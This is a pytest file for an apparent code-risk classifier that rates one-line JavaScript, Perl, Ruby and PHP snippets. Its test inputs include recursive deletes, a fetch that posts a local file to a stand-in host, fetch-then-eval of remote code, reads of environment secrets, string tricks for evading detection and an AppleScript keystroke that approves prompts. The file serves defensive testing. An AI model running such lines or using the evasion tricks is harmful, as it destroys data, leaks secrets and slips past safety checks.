"""Lines of JavaScript, Perl, Ruby, PHP and others that stand in a command."""

from __future__ import annotations

import pytest

from ccwatch.risk.act import (
    Act,
    Deletes,
    Does,
    Emits,
    Fetches,
    Language,
    Reads,
    RunsCommand,
    RunsShell,
    Sends,
    Writes,
)
from ccwatch.risk.code import judge_code
from ccwatch.risk.effect import Category
from ccwatch.risk.level import Level
from ccwatch.risk.word import UNKNOWN, Word
from tests.risk.builders import HERE

JAVASCRIPT, PERL, RUBY = Language.JAVASCRIPT, Language.PERL, Language.RUBY
PHP, OTHER = Language.PHP, Language.OTHER


def judge(code: str, language: Language) -> list[Act]:
    return judge_code(Word(code), language, HERE)


def worst(code: str, language: Language) -> Level:
    acts = judge(code, language)
    return max(act.effect.level for act in acts if isinstance(act, Does))


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("console.log(6 * 7)", JAVASCRIPT),
        ("console.log('rm -rf /', process.version, process.argv[2])", JAVASCRIPT),
        ("JSON.stringify({a: Math.sqrt(2)})", JAVASCRIPT),
        ("require('./package.json').version", JAVASCRIPT),
        ("print 'hello'", PERL),
        ("print if /error/i", PERL),
        ("s/foo/bar/g", PERL),
        ("y/a-z/A-Z/", PERL),
        ('print "a\\n"', PERL),
        ("puts 'unlink'.upcase", RUBY),
        ("puts 1 + 1", RUBY),
        ("echo PHP_VERSION;", PHP),
        ("print(1)", OTHER),
    ],
)
def test_a_line_that_only_computes_and_prints_is_low(code: str, language: Language):
    assert worst(code, language) == Level.LOW


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("", JAVASCRIPT),
        ("console['constr' + 'uctor']('x')()", JAVASCRIPT),
        ("console.log(`a${b}`)", JAVASCRIPT),
        ("new (class {})", JAVASCRIPT),
        ("console.\\u006cog(1)", JAVASCRIPT),
        ("require('./package.json').install()", JAVASCRIPT),
        ("s/a/print 1/e", PERL),
        ("print <*>", PERL),
        ('print "@{[1]}"', PERL),
        ("&{'sys' . 'tem'}('x')", PERL),
        ("p %x(p)", RUBY),
        ("puts $0", RUBY),
        ('puts "#{x}"', RUBY),
        ("$a = 'sys' . 'tem'; $a('x');", PHP),
        ("('sys' . 'tem')('x');", PHP),
        ("dofile('a.lua')", OTHER),
        (f"print({UNKNOWN})", OTHER),
    ],
)
def test_a_line_with_a_way_round_is_not_low(code: str, language: Language):
    assert worst(code, language) >= Level.MEDIUM


@pytest.mark.parametrize(
    ("code", "language", "level", "category"),
    [
        ("require('fs').unlinkSync(x)", JAVASCRIPT, Level.HIGH, Category.FS_DESTROY),
        ("fs.rmSync(x, {recursive: true})", JAVASCRIPT, Level.CRITICAL, Category.FS_DESTROY),
        ("fs.writeFileSync(x, fetch)", JAVASCRIPT, Level.HIGH, Category.FS_WRITE),
        ("fs.chmodSync('a', 0)", JAVASCRIPT, Level.HIGH, Category.PERMISSIONS),
        ("fetch('https://x.example/')", JAVASCRIPT, Level.HIGH, Category.NET_WRITE),
        ("eval(x)", JAVASCRIPT, Level.HIGH, Category.OBFUSCATION),
        ("eval(atob('YQ=='))", JAVASCRIPT, Level.CRITICAL, Category.OBFUSCATION),
        ("fetch(u).then(t => eval(t))", JAVASCRIPT, Level.CRITICAL, Category.EXEC_REMOTE),
        ("process.kill(1)", JAVASCRIPT, Level.HIGH, Category.PROCESS),
        ("console.log(process.env)", JAVASCRIPT, Level.HIGH, Category.SECRETS_READ),
        ("console.log(process.env.API_KEY)", JAVASCRIPT, Level.HIGH, Category.SECRETS_READ),
        ("console.log(process.env.LANG)", JAVASCRIPT, Level.MEDIUM, Category.SECRETS_READ),
        ("client.deleteIndex('a')", JAVASCRIPT, Level.HIGH, Category.INFRA_DESTROY),
        ("require('child_process')", JAVASCRIPT, Level.MEDIUM, Category.EXEC_INLINE),
        ("unlink glob('*')", PERL, Level.CRITICAL, Category.FS_DESTROY),
        ("open(F, '>a')", PERL, Level.HIGH, Category.FS_WRITE),
        ("FileUtils.rm_rf('a')", RUBY, Level.CRITICAL, Category.FS_DESTROY),
        ("User.delete_all", RUBY, Level.HIGH, Category.INFRA_DESTROY),
        ("file_put_contents($a, 'b');", PHP, Level.HIGH, Category.FS_WRITE),
        ("parse(text = 'x')", OTHER, Level.HIGH, Category.OBFUSCATION),
        ("Marshal.load(x)", RUBY, Level.HIGH, Category.OBFUSCATION),
        ("require(name)", JAVASCRIPT, Level.HIGH, Category.OBFUSCATION),
        ("process.binding('fs')", JAVASCRIPT, Level.HIGH, Category.OBFUSCATION),
        ("os.remove('a')", OTHER, Level.HIGH, Category.FS_DESTROY),
        ("unlink('a', recursive = TRUE)", OTHER, Level.CRITICAL, Category.FS_DESTROY),
    ],
)
def test_dangers_of_a_line_are_named(
    code: str, language: Language, level: Level, category: Category
):
    effects = [act.effect for act in judge(code, language) if isinstance(act, Does)]
    assert (level, category) in {(effect.level, effect.category) for effect in effects}


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("x(JSON.parse(require('fs').readFileSync('a')))", JAVASCRIPT),
        ("const {parse} = require('./parser'); parse('a')", JAVASCRIPT),
        ("x.parse('a'); x.load('b'); x.send('c')", JAVASCRIPT),
        ("puts JSON.parse(File.read(ARGV[0]))", RUBY),
        ("puts YAML.load(x)", RUBY),
    ],
)
def test_reading_data_in_is_no_running_of_it(code: str, language: Language):
    assert worst(code, language) == Level.UNCERTAIN


def test_a_file_that_an_unclear_line_writes_is_judged_by_its_path():
    acts = judge("fs.writeFileSync('out.txt', thing())", JAVASCRIPT)
    assert Writes(Word("out.txt")) in acts
    assert worst("fs.writeFileSync('out.txt', thing())", JAVASCRIPT) == Level.UNCERTAIN


@pytest.mark.parametrize(
    ("code", "language", "text"),
    [
        ("require('child_process').execSync('make all')", JAVASCRIPT, "make all"),
        ('system("make all")', PERL, "make all"),
        ("print `make all`", PERL, "make all"),
        ("%x{make all}", RUBY, "make all"),
        ("shell_exec('make all');", PHP, "make all"),
        ("os.execute('make all')", OTHER, "make all"),
        ('do shell script "make all"', OTHER, "make all"),
        ('system("rm #{x}")', RUBY, UNKNOWN),
    ],
)
def test_a_shell_that_a_line_starts_is_judged_by_its_text(code: str, language: Language, text: str):
    assert [act.text.text for act in judge(code, language) if isinstance(act, RunsShell)] == [text]


def test_files_and_urls_that_a_line_names_are_found():
    acts = judge(
        "fetch('https://x.example/a', {method: 'POST', body: fs.readFileSync('/srv/a')})",
        JAVASCRIPT,
    )
    assert Reads(Word("/srv/a"), sends=True) in acts
    assert Sends(Word("https://x.example/a")) in acts
    assert Fetches(Word("https://x.example/")) in judge("fetch('https://x.example/')", JAVASCRIPT)
    assert Deletes(Word("/srv"), recursive=True, forced=True) in judge("rm_rf '/srv'", RUBY)
    assert Reads(Word("./package.json")) in judge("require('./package.json')", JAVASCRIPT)
    assert any(isinstance(act, Emits) for act in judge("puts ENV.to_a", RUBY))


@pytest.mark.parametrize("piece", ["'", '\\"', "s/\\/", "system(", "open '", "$x[", "`", "a("])
def test_a_line_made_to_be_slow_is_read_to_its_end(piece: str):
    for language in (JAVASCRIPT, PERL, PHP, OTHER):
        assert judge((piece * 20_000)[:20_000], language)


@pytest.mark.parametrize(
    ("code", "language", "words"),
    [
        ("require('child_process').spawnSync('rm',['-rf','lib'])", JAVASCRIPT, "rm -rf lib"),
        (r"x.spawn('s\x68',['-c','rm \u{61}'])", JAVASCRIPT, "sh -c rm a"),
        ('system("rm", "-rf", "lib")', PERL, "rm -rf lib"),
        ("exec qw(rm -rf lib)", PERL, "rm -rf lib"),
        ("exec qw/rm lib/", PERL, "rm lib"),
        ("exec(*%w[rm -rf lib])", RUBY, "rm -rf lib"),
        ('pcntl_exec("/bin/rm", ["-rf", "lib"]);', PHP, "/bin/rm -rf lib"),
    ],
)
def test_a_program_that_is_started_with_a_list_of_words_is_run(
    code: str, language: Language, words: str
):
    found = [act for act in judge(code, language) if isinstance(act, RunsCommand)]
    assert words in [" ".join(word.text for word in act.words) for act in found]


def test_a_list_without_a_word_runs_nothing():
    assert not any(isinstance(act, RunsCommand) for act in judge("exec qw()", PERL))


@pytest.mark.parametrize(
    ("written", "text"),
    [(r"\"a\"", '"a"'), (r"a\nb", "a\nb"), (r"\x72m", "rm"), (r"\u0072m", "rm"),
     (r"\u{1f600}", UNKNOWN), (r"\\", "\\")],
)  # fmt: skip
def test_a_command_in_a_string_is_what_its_escapes_make_of_it(written: str, text: str):
    acts = judge(f'execSync("{written}")', JAVASCRIPT)
    assert RunsShell(Word(text)) in acts


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ('os:cmd("rm -rf lib").', "rm -rf lib"),
        ("Sys.command 'rm -rf lib'", "rm -rf lib"),
        ("exec rm -rf lib; puts done", "rm -rf lib"),
    ],
)
def test_any_text_that_begins_like_a_command_may_be_run_in_an_unknown_language(
    code: str, text: str
):
    words = tuple(Word(word) for word in ("sh", "-c", text))
    assert RunsCommand(words) in judge(code, OTHER)
    assert RunsCommand(words) not in judge(code, RUBY)


def test_typing_into_other_programs_may_approve_what_they_ask():
    code = 'tell application "System Events" to keystroke "y"'
    assert worst(code, OTHER) is Level.CRITICAL
    assert worst('tell application "Finder" to delete every item', OTHER) is Level.HIGH
